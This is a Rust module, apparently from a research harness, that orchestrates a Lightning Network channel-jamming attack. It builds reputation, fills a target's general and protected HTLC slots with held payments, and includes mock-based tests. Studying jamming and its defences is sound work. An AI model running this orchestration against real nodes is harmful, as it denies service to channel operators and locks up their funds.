//! # Attack Orchestrator
//!
//! Runs the attack phases in their required order under one run-scoped
//! cancellation token:
//!
//! 1. Resolve the target, its peer and their channel
//! 2. Open the attacker's channels around them
//! 3. Build baseline reputation
//! 4. Find our two final-hop channels with the peer
//! 5. Jam the general pool in the background over the first channel, while
//!    paying for protected access over the second
//! 6. Jam the protected pool with the selected strategy
//! 7. Release the general jams and join their background wait
//!
//! Order matters: the target only grants protected slots once its general
//! slots are full, so protected jamming is meaningless before step 5.
//!
//! Every task the orchestrator spawns goes through its [`TaskTracker`] and is
//! joined before [`Attack::run`] returns.

use crate::general::jam_general_slots;
use crate::jammer::ProtectedJam;
use crate::protected::escalate_protected_reputation;
use crate::reputation::build_reputation;
use crate::topology::{close_attack_channels, open_attack_channels, resolve_targets};
use crate::wait::drain_jams;
use crate::{
    AttackContext, AttackError, AttackResult, EscalationOutcome, JamStrategy, NodeId,
    PaymentReport, PhaseExt, ProtectedJammer, ReputationOutcome, ShortChannelId, SINK_NODE,
    SOURCE_NODE,
};
use serde::{Deserialize, Serialize};
use std::fmt;
use tokio_util::sync::CancellationToken;
use tokio_util::task::TaskTracker;
use tracing::{debug, error, info};

/// What to attack, and how
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackParams {
    /// Node whose channel is jammed
    pub target: NodeId,
    /// Alias of the target's peer on the jammed channel
    pub target_peer_alias: String,
    /// Protected-slot jamming strategy
    pub strategy: JamStrategy,
}

impl AttackParams {
    pub fn new(target: NodeId, target_peer_alias: impl Into<String>, strategy: JamStrategy) -> Self {
        Self {
            target,
            target_peer_alias: target_peer_alias.into(),
            strategy,
        }
    }
}

/// Result of a complete attack run
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct AttackSummary {
    pub target: NodeId,
    pub peer: NodeId,
    /// The target's channel with its peer
    pub target_channel: ShortChannelId,
    pub strategy: JamStrategy,
    pub reputation: ReputationOutcome,
    /// Final-hop channel carrying the general jams
    pub general_channel: ShortChannelId,
    /// Final-hop channel carrying the protected probes and jams
    pub protected_channel: ShortChannelId,
    pub escalation: EscalationOutcome,
    /// Absent when the background wait failed
    pub general: Option<PaymentReport>,
    pub protected: PaymentReport,
}

impl fmt::Display for AttackSummary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        writeln!(
            f,
            "Attack on {} -> {} ({})",
            self.target, self.peer, self.target_channel
        )?;
        writeln!(
            f,
            "  reputation: endorsed {} after {} rounds, {} msat fees",
            self.reputation.endorsed, self.reputation.rounds, self.reputation.fees_paid_msat
        )?;
        writeln!(
            f,
            "  protected reputation: {:?} after {} rounds, {} htlcs paid for",
            self.escalation.stop, self.escalation.rounds, self.escalation.htlcs_paid_for
        )?;
        match &self.general {
            Some(report) => writeln!(f, "  general jams ({}): {report}", self.general_channel)?,
            None => writeln!(f, "  general jams ({}): no report", self.general_channel)?,
        }
        write!(
            f,
            "  protected {} jams ({}): {}",
            self.strategy, self.protected_channel, self.protected
        )
    }
}

/// One attack run
pub struct Attack {
    ctx: AttackContext,
    params: AttackParams,
    tasks: TaskTracker,
}

impl Attack {
    pub fn new(ctx: AttackContext, params: AttackParams) -> Self {
        Self {
            ctx,
            params,
            tasks: TaskTracker::new(),
        }
    }

    pub fn params(&self) -> &AttackParams {
        &self.params
    }

    /// Cancelling this token aborts the run; every wait returns promptly.
    pub fn shutdown_token(&self) -> CancellationToken {
        self.ctx.shutdown().clone()
    }

    /// Run every phase, then join every task spawned along the way.
    pub async fn run(&self) -> AttackResult<AttackSummary> {
        let result = self.run_phases().await;

        self.tasks.close();
        self.tasks.wait().await;
        result
    }

    /// Close every channel the attacker nodes have.
    pub async fn cleanup(&self, force: bool) -> AttackResult<usize> {
        close_attack_channels(self.ctx.topology(), force)
            .await
            .in_phase("cleanup")
    }

    async fn run_phases(&self) -> AttackResult<AttackSummary> {
        let ctx = &self.ctx;
        let config = ctx.config();

        let info = resolve_targets(
            ctx.topology(),
            &self.params.target_peer_alias,
            self.params.target,
        )
        .await
        .in_phase("resolve targets")?;
        info!(
            "Target {} has channel {} with peer {} ({})",
            info.target, info.channel.channel_id, info.peer, self.params.target_peer_alias
        );

        open_attack_channels(ctx.topology(), &info, config.channel_capacity_sat)
            .await
            .in_phase("open channels")?;

        info!("Launching payments to build reputation");
        let reputation = build_reputation(ctx).await.in_phase("build reputation")?;
        info!("Reputation building endorsed: {}", reputation.endorsed);

        // General jams are split from protected jams by final channel, because
        // the target is not guaranteed access to every protected slot.
        let scids = ctx
            .topology()
            .list_channel_ids(SINK_NODE)
            .await
            .in_phase("list channel ids")?;
        let &[general_channel, protected_channel] = scids.as_slice() else {
            return Err(AttackError::Topology(format!(
                "expected 2 channels with peer, got: {}",
                scids.len()
            )));
        };

        let general_cancel = ctx.shutdown().child_token();
        let _release_general = general_cancel.clone().drop_guard();

        let jams = jam_general_slots(ctx, general_channel, config.general_hold(), &general_cancel)
            .await
            .in_phase("slow jamming")?;

        let shutdown = ctx.shutdown().clone();
        let general_wait = self.tasks.spawn(async move {
            info!("Waiting for: {} general slow jams", jams.len());
            drain_jams(jams, &shutdown).await
        });

        let mut route = ctx
            .query_route(SOURCE_NODE, SINK_NODE, config.jam_amount_msat)
            .await
            .in_phase("0 -> 2")?;
        route.redirect_final_hop(protected_channel)?;

        info!("Paying for reputation to access protected slots");
        let escalation = escalate_protected_reputation(ctx, &route, &info.target)
            .await
            .in_phase("build protected reputation")?;

        let mut jammer = self.params.strategy.jammer(route, protected_channel);
        let protected = jam_protected(ctx, &mut jammer)
            .await
            .in_phase("protected jam")?;

        general_cancel.cancel();
        info!("Waiting for general jams to complete");
        let general = match general_wait.await {
            Ok(Ok(report)) => {
                info!("General jams: {report}");
                Some(report)
            }
            Ok(Err(e)) if e.is_cancellation() => return Err(e.in_phase("general jams")),
            Ok(Err(e)) => {
                error!("Wait for general jams: {e}");
                None
            }
            Err(e) => {
                error!("General jam task failed: {e}");
                None
            }
        };

        Ok(AttackSummary {
            target: info.target,
            peer: info.peer,
            target_channel: info.channel.channel_id,
            strategy: self.params.strategy,
            reputation,
            general_channel,
            protected_channel,
            escalation,
            general,
            protected,
        })
    }
}

/// Dispatch and await the protected jam, releasing it on any failure.
async fn jam_protected(
    ctx: &AttackContext,
    jammer: &mut ProtectedJammer,
) -> AttackResult<PaymentReport> {
    if let Err(e) = jammer.dispatch(ctx).await {
        jammer.cancel();
        // Collect whatever was launched before the failure.
        if let Err(wait_err) = jammer.wait(ctx).await {
            debug!("Protected jam teardown: {wait_err}");
        }
        return Err(e);
    }

    let report = jammer.wait(ctx).await;
    if report.is_err() {
        jammer.cancel();
    }
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payment::PaymentResult;
    use crate::test_utils::{node_id, peer_id, target_id, FakeExecutor, FakeRoutes, Harness, Reply};
    use crate::topology::{ChannelEdge, ChannelPoint, MockTopologyManager, NodeInfo};
    use crate::AttackConfig;
    use std::sync::Arc;
    use std::time::Duration;

    fn target_channel() -> ChannelEdge {
        ChannelEdge {
            channel_id: ShortChannelId(1),
            channel_point: ChannelPoint {
                txid: [1; 32],
                output_index: 0,
            },
            node1: target_id(),
            node2: peer_id(),
            capacity_sat: 5_000_000,
        }
    }

    fn topology(final_channels: Vec<ShortChannelId>) -> MockTopologyManager {
        let mut topology = MockTopologyManager::new();
        topology.expect_lookup_by_alias().returning(|alias| {
            Ok(NodeInfo {
                pubkey: peer_id(),
                alias: alias.to_string(),
                addresses: vec![],
                channels: vec![],
            })
        });
        topology.expect_lookup_node().returning(|_, node, _| {
            Ok(NodeInfo {
                pubkey: node,
                alias: "target".to_string(),
                addresses: vec![],
                channels: vec![target_channel()],
            })
        });
        topology.expect_open_channel().times(4).returning(|request| {
            Ok(ChannelPoint {
                txid: [request.source as u8; 32],
                output_index: 0,
            })
        });
        topology
            .expect_wait_for_channel()
            .times(8)
            .returning(|_, _, _| Ok(()));
        topology
            .expect_list_channel_ids()
            .returning(move |_| Ok(final_channels.clone()));
        topology
    }

    /// Holds every unsettled payment and forwards endorsed ones endorsed.
    fn cooperative_executor() -> FakeExecutor {
        FakeExecutor::new(|request, _| {
            if request.settle {
                crate::test_utils::default_reply(request)
            } else {
                Reply::Hold(PaymentResult::failed_at(3, request.endorse_outgoing))
            }
        })
    }

    fn build_attack(
        executor: FakeExecutor,
        topology: MockTopologyManager,
        strategy: JamStrategy,
    ) -> (Attack, Arc<FakeExecutor>) {
        let harness = Harness::build(
            executor,
            Arc::new(FakeRoutes),
            Arc::new(topology),
            AttackConfig::default(),
        )
        .unwrap();

        let params = AttackParams::new(target_id(), "peer", strategy);
        (Attack::new(harness.ctx, params), harness.executor)
    }

    #[tokio::test(start_paused = true)]
    async fn test_full_run_slow_strategy() {
        let channels = vec![ShortChannelId(100), ShortChannelId(200)];
        let (attack, executor) = build_attack(cooperative_executor(), topology(channels), JamStrategy::Slow);

        let summary = attack.run().await.unwrap();

        assert!(summary.reputation.endorsed);
        assert_eq!(summary.reputation.rounds, 10);
        assert_eq!(summary.general_channel, ShortChannelId(100));
        assert_eq!(summary.protected_channel, ShortChannelId(200));
        assert_eq!(summary.escalation.stop, crate::EscalationStop::Complete);
        assert_eq!(summary.escalation.rounds, 1);
        assert_eq!(summary.protected.reached_destination, 241);

        let general = summary.general.unwrap();
        assert_eq!(general.dispatched, 242);
        assert_eq!(general.reached_destination, 242);
        assert_eq!(executor.in_flight(), 0);

        let json = serde_json::to_string(&summary).unwrap();
        assert!(json.contains("\"strategy\":\"slow\""));
    }

    #[tokio::test(start_paused = true)]
    async fn test_full_run_fast_strategy() {
        let channels = vec![ShortChannelId(100), ShortChannelId(200)];
        let (attack, executor) = build_attack(cooperative_executor(), topology(channels), JamStrategy::Fast);

        let summary = attack.run().await.unwrap();

        assert_eq!(summary.strategy, JamStrategy::Fast);
        assert!(summary.protected.dispatched > 241);
        assert_eq!(summary.general.unwrap().dispatched, 242);
        assert_eq!(executor.in_flight(), 0);
    }

    #[tokio::test(start_paused = true)]
    async fn test_requires_two_final_channels() {
        let channels = vec![ShortChannelId(100)];
        let (attack, executor) = build_attack(cooperative_executor(), topology(channels), JamStrategy::Slow);

        let err = attack.run().await.unwrap_err();
        assert_eq!(err.to_string(), "topology error: expected 2 channels with peer, got: 1");
        // Nothing beyond reputation building was dispatched.
        assert!(executor.dispatched().iter().all(|r| r.settle || (r.source == 0 && r.dest == 2)));
    }

    #[tokio::test(start_paused = true)]
    async fn test_cancellation_joins_everything() {
        let channels = vec![ShortChannelId(100), ShortChannelId(200)];
        let (attack, executor) = build_attack(cooperative_executor(), topology(channels), JamStrategy::Slow);

        let shutdown = attack.shutdown_token();
        tokio::spawn(async move {
            // Inside the slow protected jam.
            tokio::time::sleep(Duration::from_secs(300)).await;
            shutdown.cancel();
        });

        let err = attack.run().await.unwrap_err();
        assert!(err.is_cancellation());

        executor.join().await;
        assert_eq!(executor.in_flight(), 0);
    }

    #[tokio::test]
    async fn test_cleanup_closes_every_node() {
        let mut topology = MockTopologyManager::new();
        topology
            .expect_close_all_channels()
            .times(3)
            .returning(|_, _| Ok(2));
        let (attack, _) = build_attack(FakeExecutor::holding(), topology, JamStrategy::Fast);

        assert_eq!(attack.cleanup(false).await.unwrap(), 6);
        assert_eq!(attack.params().target, target_id());
        assert_ne!(attack.params().target, node_id(0));
    }
}
